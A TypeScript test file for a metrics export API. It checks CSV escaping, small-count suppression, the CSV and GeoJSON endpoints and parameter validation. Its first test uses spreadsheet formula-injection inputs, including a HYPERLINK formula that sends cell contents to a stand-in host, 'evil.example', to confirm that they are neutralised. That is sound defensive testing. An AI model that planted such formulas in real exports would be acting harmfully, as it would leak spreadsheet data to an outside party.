import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { FeatureCollection, Geometry, MetricsResponse } from '../../core/api/types'
import type { Database } from '../../core/db/database'
import { csvCell, csvLine } from '../../server/http/csv-cell'
import { serveApi, type TestServer } from '../support/api-server'
import { backends } from '../support/databases'
import { preparedDatabase } from '../support/prepared'

const COLUMNS = [
  'territory_id', 'code', 'name', 'population', 'demand', 'demand_rate', 'unmet', 'unmet_share', 'supply', 'access',
  'gap', 'deprivation', 'suppressed', 'k', 'period_from', 'period_to', 'category', 'outcome', 'channel', 'source',
]

/** Parses one CSV line as a spreadsheet or csv-parse would. */
function cells(line: string): string[] {
  return (parse(line, { relax_column_count: true }) as string[][])[0] ?? []
}

describe('CSV cells', () => {
  it('neutralizes text a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez ici"")"`)
    expect(cells(csvLine(['=HYPERLINK("http://evil.example","Banque alimentaire")']))).toEqual([`'=HYPERLINK("http://evil.example","Banque alimentaire")`])
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\u2212', '\uFF1D']) expect(csvCell(`${start}1+1`).startsWith(`'`) || csvCell(`${start}1+1`).startsWith(`"'`)).toBe(true)
    expect(csvCell('-2+3')).toBe(`'-2+3`)
    expect(csvCell('@SUM(A1:A9)')).toBe(`'@SUM(A1:A9)`)
  })

  it('leaves ordinary names, numbers and the suppression marker alone', () => {
    expect(csvCell('Rivière-du-Loup')).toBe('Rivière-du-Loup')
    expect(csvCell('Les Îles-de-la-Madeleine')).toBe('Les Îles-de-la-Madeleine')
    expect(csvCell('<10')).toBe('<10')
    expect(csvCell(-0.53)).toBe('-0.53')
    expect(csvCell(1234.5)).toBe('1234.5')
    expect(csvCell(0)).toBe('0')
    expect(csvCell(null)).toBe('')
    expect(csvCell(Number.NaN)).toBe('')
    expect(csvCell(true)).toBe('true')
  })

  it('quotes as RFC 4180 asks', () => {
    expect(csvCell('Montréal, Ville de')).toBe('"Montréal, Ville de"')
    expect(csvCell('Le "Vieux" Québec')).toBe('"Le ""Vieux"" Québec"')
    expect(csvCell('ligne 1\nligne 2')).toBe('"ligne 1\nligne 2"')
    expect(csvLine(['a', 1, null, 'b;c'])).toBe('a,1,,"b;c"\r\n')
    expect(cells(csvLine(['Saint-Jean-sur-Richelieu', 'L\'Assomption, "MRC"', '=1+1']))).toEqual(['Saint-Jean-sur-Richelieu', 'L\'Assomption, "MRC"', `'=1+1`])
  })
})

describe.each(backends())('metrics exports on $name', (backend) => {
  let db: Database
  let server: TestServer
  beforeAll(async () => {
    db = await preparedDatabase(backend)
    server = await serveApi(db)
  })
  afterAll(async () => {
    await server?.close()
    await db?.close()
  })

  /** The body decoded without stripping the BOM (response.text() drops it). */
  async function csv(query: string): Promise<{ response: Response; text: string; records: Record<string, string>[] }> {
    const response = await fetch(`${server.url}/api/export/metrics.csv?${query}`)
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer())
    const records = parse(text, { columns: true, bom: true, skip_empty_lines: true }) as Record<string, string>[]
    return { response, text, records }
  }

  async function metrics(query: string): Promise<MetricsResponse> {
    return (await (await fetch(`${server.url}/api/metrics?${query}`)).json()) as MetricsResponse
  }

  it('GET /api/export/metrics.csv is the metrics table, with a BOM, a header and a file name', async () => {
    const query = 'level=mrc&category=all&from=2025-01&to=2025-12'
    const { response, text, records } = await csv(query)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="lacunes-mrc-all-2025-01_2025-12.csv"')
    expect(response.headers.get('etag')).toBeTruthy()
    expect(response.headers.get('cache-control')).toMatch(/max-age=60/)
    expect(text.charCodeAt(0)).toBe(0xfeff)
    expect(cells(text.slice(1, text.indexOf('\r\n')))).toEqual(COLUMNS)
    expect(records).toHaveLength(104)
    const codes = new Set(records.map((r) => r.code))
    expect(codes.size).toBe(104)
    expect([...codes].every((code) => code !== '')).toBe(true)
    expect(records.every((r) => r.source === 'synthetic demo data' && r.k === '10' && r.period_from === '2025-01' && r.period_to === '2025-12')).toBe(true)
    expect(records.some((r) => /[éèêîôÎÉ]/.test(r.name ?? ''))).toBe(true)
  })

  it('gives exactly the figures of GET /api/metrics', async () => {
    const query = 'level=neighbourhood&category=food&from=2025-01&to=2025-06&outcome=unmet'
    const [{ records }, json] = await Promise.all([csv(query), metrics(query)])
    expect(records).toHaveLength(json.rows.length)
    const asCell = (value: number | null, hidden: boolean): string => (hidden ? `<${json.k}` : value === null ? '' : String(value))
    json.rows.forEach((row, i) => {
      const record = records[i] as Record<string, string>
      expect(Number(record.territory_id)).toBe(row.territory_id)
      expect(record.name).toBe(row.name)
      expect(record.population).toBe(row.population === null ? '' : String(row.population))
      expect(record.demand).toBe(asCell(row.demand, row.demand === null))
      expect(record.demand_rate).toBe(asCell(row.demand_rate, row.demand === null))
      expect(record.unmet).toBe(asCell(row.unmet, row.unmet === null))
      expect(record.unmet_share).toBe(asCell(row.unmet_share, row.unmet === null))
      for (const column of ['supply', 'access', 'gap', 'deprivation'] as const) expect(record[column]).toBe(row[column] === null ? '' : String(row[column]))
      expect(record.suppressed).toBe(String(row.suppressed))
      expect(record.outcome).toBe('unmet')
      expect(record.channel).toBe('all')
    })
  })

  it('writes suppressed counts as "<k", never blank or 0', async () => {
    const query = 'level=neighbourhood&category=disability&from=2025-06&to=2025-06'
    const [{ records }, json] = await Promise.all([csv(query), metrics(query)])
    const suppressed = records.filter((r) => r.suppressed === 'true')
    expect(suppressed.length).toBeGreaterThan(0)
    expect(suppressed.length).toBe(json.rows.filter((r) => r.suppressed).length)
    for (const record of suppressed) {
      expect([record.demand, record.demand_rate, record.unmet, record.unmet_share]).toEqual(['<10', '<10', '<10', '<10'])
    }
    for (const record of records) {
      for (const count of [record.demand, record.unmet]) {
        expect(count).not.toBe('')
        if (count !== '<10') expect(Number(count) === 0 || Number(count) >= 10).toBe(true)
      }
    }
  })

  it('answers 304 to a client that already has the file', async () => {
    const path = `${server.url}/api/export/metrics.csv?level=region&category=food&from=2025-01&to=2025-03`
    const first = await fetch(path)
    const etag = first.headers.get('etag') as string
    await first.text()
    expect((await fetch(path, { headers: { 'if-none-match': etag } })).status).toBe(304)
  })

  it('GET /api/export/metrics.geojson joins the same rows to the territories', async () => {
    const query = 'level=mrc&category=all&from=2025-01&to=2025-12'
    const response = await fetch(`${server.url}/api/export/metrics.geojson?${query}`)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toMatch(/^application\/geo\+json/)
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="lacunes-mrc-all-2025-01_2025-12.geojson"')
    const body = (await response.json()) as FeatureCollection<Geometry, Record<string, unknown>>
    const json = await metrics(query)
    expect(body.type).toBe('FeatureCollection')
    expect(body.features).toHaveLength(104)
    for (const feature of body.features) {
      expect(['Polygon', 'MultiPolygon']).toContain(feature.geometry.type)
      expect(Object.keys(feature.properties)).toEqual(COLUMNS)
    }
    body.features.forEach((feature, i) => {
      const row = json.rows[i]
      expect(feature.id).toBe(row?.territory_id)
      expect(feature.properties).toMatchObject({ ...row, k: 10, period_from: '2025-01', period_to: '2025-12', category: 'all', source: 'synthetic demo data' })
    })
    const points = (await (await fetch(`${server.url}/api/export/metrics.geojson?level=municipality&category=food`)).json()) as FeatureCollection<Geometry, unknown>
    expect(points.features).toHaveLength(1281)
    expect(points.features.every((f) => f.geometry.type === 'Point')).toBe(true)
  })

  it.each([
    ['metrics.csv', '', /^level: /],
    ['metrics.csv', 'level=county', /^level: unknown level "county"/],
    ['metrics.csv', 'level=mrc&from=2025-13&to=2025-12', /^from: must be a month YYYY-MM/],
    ['metrics.geojson', 'level=mrc&from=2025-12&to=2025-01', /^from: 2025-12 is after to: 2025-01/],
    ['metrics.geojson', 'level=mrc&category=pizza', /^category: unknown category "pizza"/],
    ['metrics.csv', 'level=mrc&channel=pigeon', /^channel: /],
  ])('GET /api/export/%s?%s is a 400 naming the bad parameter', async (file, query, message) => {
    const response = await fetch(`${server.url}/api/export/${file}?${query}`)
    expect(response.status).toBe(400)
    const body = (await response.json()) as { error: { code: string; message: string } }
    expect(body.error.code).toBe('invalid_parameter')
    expect(body.error.message).toMatch(message)
  })
})
